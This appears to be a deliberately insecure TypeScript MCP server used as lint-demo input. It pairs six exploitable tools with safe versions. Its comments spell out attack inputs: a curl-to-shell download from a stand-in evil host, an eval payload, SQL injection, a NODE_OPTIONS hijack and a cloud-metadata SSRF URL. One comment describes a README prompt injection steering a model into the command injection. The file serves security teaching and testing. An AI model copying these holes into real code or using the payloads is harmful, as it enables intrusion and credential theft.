#!/usr/bin/env node
/**
 * A small MCP server for a developer's workspace: git history, directory listings, arithmetic, notes and tests.
 *
 * DELIBERATELY INSECURE: this file is the input of `npm run demo`, which lints it with
 * eslint-plugin-secure-mcp. Six tools are written the way real servers have been written, and are
 * exploitable; their safe twins sit next to them. Do not run it.
 *
 *   git_log   (bad)  a tool argument interpolated into a shell command          -> no-command-injection
 *   git_show  (good) the same, with execFile, an argument array and a ref check
 *   list_dir  (good) execFile without a shell, after an allowlist check
 *   evaluate  (bad)  a tool argument compiled as JavaScript                       -> no-code-injection
 *   calc      (good) the same, after a regular expression that only admits arithmetic
 *   find_notes (bad) a tool argument concatenated into SQL                     -> no-sql-injection
 *   get_note  (good) the same with a bound parameter
 *   run_tests (bad)  tool input spread into a child process's environment      -> no-env-injection
 *   read_doc  (bad)  an allowed-directory check without a separator (CVE-2025-53110) -> no-path-traversal
 *   read_file (good) path.relative against the workspace root
 *   fetch_doc (bad)  a tool argument as the URL of a request                    -> no-ssrf
 *   read_page (good) a documentation page whose origin is fixed in code
 */
import { exec, execFile } from "node:child_process";
import { readFile } from "node:fs/promises";
import path from "node:path";
import { promisify } from "node:util";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { StdioServerTransport } from "@modelcontextprotocol/sdk/server/stdio.js";
import Database from "better-sqlite3";
import { z } from "zod";

const execAsync = promisify(exec);
const execFileAsync = promisify(execFile);

/** The directories `list_dir` may show, relative to the workspace root. */
const LISTABLE_DIRS = ["src", "docs", "tests", "scripts"];

const server = new McpServer({ name: "workspace-tools", version: "0.1.0" });

function text(value: string) {
  return { content: [{ type: "text" as const, text: value }] };
}

function error(message: string) {
  return { isError: true, content: [{ type: "text" as const, text: message }] };
}

// BAD: `ref` goes into a shell command line. A prompt injection in a README the model read can make it call
// git_log with ref = "HEAD; curl https://evil.example/x.sh | sh", and the shell runs both commands.
server.registerTool(
  "git_log",
  {
    title: "Git log",
    description: "Show the last commits of a branch, tag or commit",
    inputSchema: { ref: z.string().describe("Branch, tag or commit"), count: z.number().int().min(1).max(100).default(20) },
    annotations: { readOnlyHint: true },
  },
  async ({ ref, count }) => {
    const { stdout } = await execAsync(`git log ${ref} --oneline -n ${count}`);
    return text(stdout);
  },
);

// GOOD: a fixed program, an argument array, no shell; the ref must look like a ref and cannot start with "-".
server.registerTool(
  "git_show",
  {
    title: "Git show",
    description: "Show one commit",
    inputSchema: { ref: z.string().describe("Branch, tag or commit") },
    annotations: { readOnlyHint: true },
  },
  async ({ ref }) => {
    if (!/^[\w./-]+$/.test(ref) || ref.startsWith("-")) return error(`Not a valid ref: ${ref}`);
    const { stdout } = await execFileAsync("git", ["show", "--stat", ref, "--"]);
    return text(stdout);
  },
);

// GOOD: only allowlisted directories, and `ls` gets the name as one argument, without a shell.
server.registerTool(
  "list_dir",
  {
    title: "List directory",
    description: `List one of the workspace directories: ${LISTABLE_DIRS.join(", ")}`,
    inputSchema: { dir: z.string() },
    annotations: { readOnlyHint: true },
  },
  async ({ dir }) => {
    if (!LISTABLE_DIRS.includes(dir)) return error(`Not an allowed directory: ${dir}`);
    const { stdout } = await execFileAsync("ls", ["-la", dir]);
    return text(stdout);
  },
);

// BAD: the expression is compiled as JavaScript; "process.mainModule.require('child_process').execSync('id')"
// is an expression too.
server.registerTool(
  "evaluate",
  {
    title: "Evaluate",
    description: "Evaluate a JavaScript expression",
    inputSchema: { expr: z.string() },
  },
  async (args) => {
    const value: unknown = new Function(`return (${args.expr});`)();
    return text(String(value));
  },
);

// GOOD: only digits, whitespace, arithmetic operators and parentheses get through to the evaluator.
server.registerTool(
  "calc",
  {
    title: "Calculator",
    description: "Evaluate an arithmetic expression such as (2 + 3) * 4",
    inputSchema: { expr: z.string() },
    annotations: { readOnlyHint: true },
  },
  async ({ expr }) => {
    if (!/^[\d\s+*/%().-]+$/.test(expr)) return error("Only numbers, + - * / % and parentheses are allowed");
    const value: unknown = new Function(`return (${expr});`)();
    return text(String(value));
  },
);

const notes = new Database("notes.db", { readonly: true });

// BAD: the search text is pasted into the SQL: `%' UNION SELECT password FROM users --` reads another table.
server.registerTool(
  "find_notes",
  { description: "Find notes whose title contains a text", inputSchema: { text: z.string() }, annotations: { readOnlyHint: true } },
  async ({ text: search }) => {
    const rows = notes.prepare(`SELECT id, title FROM notes WHERE title LIKE '%${search}%'`).all();
    return text(JSON.stringify(rows));
  },
);

// GOOD: the value is bound to a placeholder and never parsed as SQL.
server.registerTool(
  "get_note",
  { description: "Read one note", inputSchema: { id: z.string() }, annotations: { readOnlyHint: true } },
  async ({ id }) => text(JSON.stringify(notes.prepare("SELECT title, body FROM notes WHERE id = ?").get(id))),
);

// BAD: the client chooses the test runner's environment: NODE_OPTIONS=--require=/tmp/evil.js runs its code.
server.registerTool(
  "run_tests",
  { description: "Run the test suite", inputSchema: { env: z.record(z.string(), z.string()) } },
  async (args) => {
    const { stdout } = await execFileAsync("npm", ["test"], { env: { ...process.env, ...args.env } });
    return text(stdout);
  },
);

const WORKSPACE = path.resolve(process.env.WORKSPACE_DIR ?? ".");

// BAD: "/home/me/project-secrets/.env" starts with "/home/me/project", so the sibling directory is readable.
server.registerTool(
  "read_doc",
  { description: "Read a file of the workspace", inputSchema: { file: z.string() }, annotations: { readOnlyHint: true } },
  async ({ file }) => {
    const resolved = path.resolve(WORKSPACE, file);
    if (!resolved.startsWith(WORKSPACE)) return error("Outside the workspace");
    return text(await readFile(resolved, "utf8"));
  },
);

// GOOD: the path relative to the workspace must not climb out of it.
server.registerTool(
  "read_file",
  { description: "Read a file of the workspace", inputSchema: { file: z.string() }, annotations: { readOnlyHint: true } },
  async ({ file }) => {
    const resolved = path.resolve(WORKSPACE, file);
    const relative = path.relative(WORKSPACE, resolved);
    if (relative.startsWith("..") || path.isAbsolute(relative)) return error("Outside the workspace");
    return text(await readFile(resolved, "utf8"));
  },
);

const DOCS_ORIGIN = "https://docs.example.com";

// BAD: the client picks the host: http://169.254.169.254/latest/meta-data/ hands out a cloud machine's credentials.
server.registerTool(
  "fetch_doc",
  { description: "Fetch a documentation page", inputSchema: { url: z.string() }, annotations: { readOnlyHint: true } },
  async ({ url }) => text(await (await fetch(url)).text()),
);

// GOOD: the origin is fixed in code; the client only picks the page.
server.registerTool(
  "read_page",
  { description: "Read a documentation page", inputSchema: { page: z.string() }, annotations: { readOnlyHint: true } },
  async ({ page }) => text(await (await fetch(`${DOCS_ORIGIN}/pages/${encodeURIComponent(page)}`)).text()),
);

await server.connect(new StdioServerTransport());
